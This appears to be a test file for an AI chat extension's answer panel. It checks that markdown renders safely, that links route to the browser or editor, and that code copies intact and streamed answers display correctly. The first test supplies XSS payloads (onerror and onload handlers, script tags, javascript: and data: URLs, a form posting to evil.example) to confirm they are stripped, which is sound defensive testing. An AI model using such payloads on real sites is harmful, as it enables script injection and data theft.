@@ -1,0 +1,117 @@
+import { expect } from 'vitest';
+import type { SessionState } from '../../src/protocol/state.ts';
+import { fold, journal, prompt, started, step, text } from './journal.ts';
+import { test } from './suite.ts';
+
+function answering(...parts: readonly string[]): SessionState {
+  return fold([started, prompt('t1', 'Hello'), step('s1', 1), ...parts.map(part => text('s1', part))]);
+}
+
+test('nothing in an answer can run, load or style', async ({ open }) => {
+  const answer = [
+    '<img src=x onerror="window.hacked = 1">',
+    '<script>window.hacked = 2</script>',
+    '[a](javascript:window.hacked=3) <a href="javascript:window.hacked=4">b</a>',
+    '[c](data:text/html,<script>window.hacked=5</script>) [d](vscode:extension/evil) [e](command:evil)',
+    '![tracker](https://evil.example/pixel.png)',
+    '<svg onload="window.hacked = 6"></svg> <iframe src="https://evil.example"></iframe>',
+    '<p style="position:fixed;inset:0" onclick="window.hacked = 7">styled</p>',
+    '<form action="https://evil.example"><input name="key"><button>Send</button></form>',
+  ].join('\n\n');
+  const panel = await open({ state: answering(answer) });
+  const { page } = panel;
+  await page.getByText('styled').click();
+  for (const word of ['a', 'b', 'c', 'd', 'e'])
+    for (const link of await page.locator('.answer').getByText(word, { exact: true }).all())
+      await link.click();
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+  const forbidden =
+    '.answer :is(img, script, svg, iframe, form, style, [style], [onclick], [onerror], [name])';
+  expect(await page.locator(forbidden).count()).toBe(0);
+  const schemes = await page
+    .locator('.answer a')
+    .evaluateAll(links => links.map(link => link.getAttribute('href')));
+  expect(schemes.filter(href => href && !href.startsWith('https:'))).toEqual([]);
+  expect((await panel.intentions()).map(each => each.type)).toEqual(['panel.ready']);
+  expect(await panel.troubles()).toEqual([]);
+});
+
+test('links go to the host: addresses to the browser, paths to the editor', async ({ open }) => {
+  const { page, intention } = await open({
+    state: answering('[docs](https://example.com/a?b=c), `src/invoice.ts:12`, [it](./src/My%20File.ts#L7)'),
+  });
+  await page.getByText('docs').click();
+  expect((await intention('link.open')).url).toBe('https://example.com/a?b=c');
+  await page.getByText('src/invoice.ts:12').click();
+  expect(await intention('file.open')).toEqual({ type: 'file.open', path: 'src/invoice.ts', line: 12 });
+  await page.getByText('it', { exact: true }).click();
+  await expect
+    .poll(() => intention('file.open'))
+    .toEqual({ type: 'file.open', path: './src/My File.ts', line: 7 });
+  expect(page.url()).toMatch(/\/$/);
+});
+
+test('code is labelled, coloured and copied as it was written', async ({ open }) => {
+  const code = 'const answer = "<b>42</b>"; // & more\n';
+  const { page, intention } = await open({ state: answering(`\`\`\`ts\n${code}\`\`\`\n`) });
+  await page.locator('.hljs-keyword').waitFor();
+  expect(await page.locator('.code-language').textContent()).toBe('ts');
+  await page.getByRole('button', { name: 'Copy code' }).click();
+  expect((await intention('text.copy')).text).toBe(code);
+});
+
+test('an answer is readable as plain text while the renderer is on its way', async ({ open }) => {
+  const { page } = await open({ state: answering('# Title\n\nSome **bold** words.'), refuse: /markdown/ });
+  await page.getByText('Some **bold** words.', { exact: false }).waitFor();
+});
+
+test('an answer that streams in small pieces looks like the same answer at once', async ({ open }) => {
+  const answer =
+    'Intro with `code` and **bold**.\n\n- one\n- two\n\n  still two\n- three\n\n' +
+    '```py\ndef f():\n\n    return 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. x\n\n   ```\n   y\n   ```\n\nEnd.';
+  const whole = await open({ state: answering(answer) });
+  const streamed = await open({ state: answering() });
+  const base = 3;
+  for (let at = 0; at < answer.length; at += 7)
+    await streamed.play(journal([text('s1', answer.slice(at, at + 7))], base + at / 7));
+  const looks = (panel: typeof whole) =>
+    panel.page
+      .locator('.answer')
+      .evaluate(each =>
+        [...each.querySelectorAll('p, li, pre, td, th')].map(
+          part => `${part.tagName} ${part.textContent.trim()}`,
+        ),
+      );
+  await whole.page.getByText('End.').waitFor();
+  await streamed.page.getByText('End.').waitFor();
+  expect(await looks(streamed)).toEqual(await looks(whole));
+});
+
+test('an answer of 2 MB in 20,000 pieces arrives whole and leaves the composer usable', async ({ open }) => {
+  const panel = await open({ state: answering() });
+  const { page } = panel;
+  const words = 'The quick brown fox jumps over the lazy dog and `src/fox.ts:1` says so, again and again. ';
+  await page.evaluate(
+    piece => {
+      let seq = 3;
+      const post = () => {
+        for (let index = 0; index < 200 && seq < 20_003; index++) {
+          seq++;
+          const end = seq % 40 === 0 ? '\n\n' : '';
+          const event = { seq, at: Date.now(), type: 'text.appended', stepId: 's1', text: `${piece}${end}` };
+          window.postMessage({ type: 'session.events', events: [event] }, '*');
+        }
+        if (seq < 20_003) setTimeout(post, 0);
+      };
+      post();
+    },
+    words.padEnd(100, '.'),
+  );
+  const box = page.getByRole('textbox', { name: 'Ask Folio' });
+  await box.focus();
+  await page.keyboard.type('typed while it streams');
+  expect(await box.inputValue()).toBe('typed while it streams');
+  await expect
+    .poll(() => page.locator('.answer').evaluate(each => each.textContent.length), { timeout: 150_000 })
+    .toBeGreaterThan(1_900_000);
+});
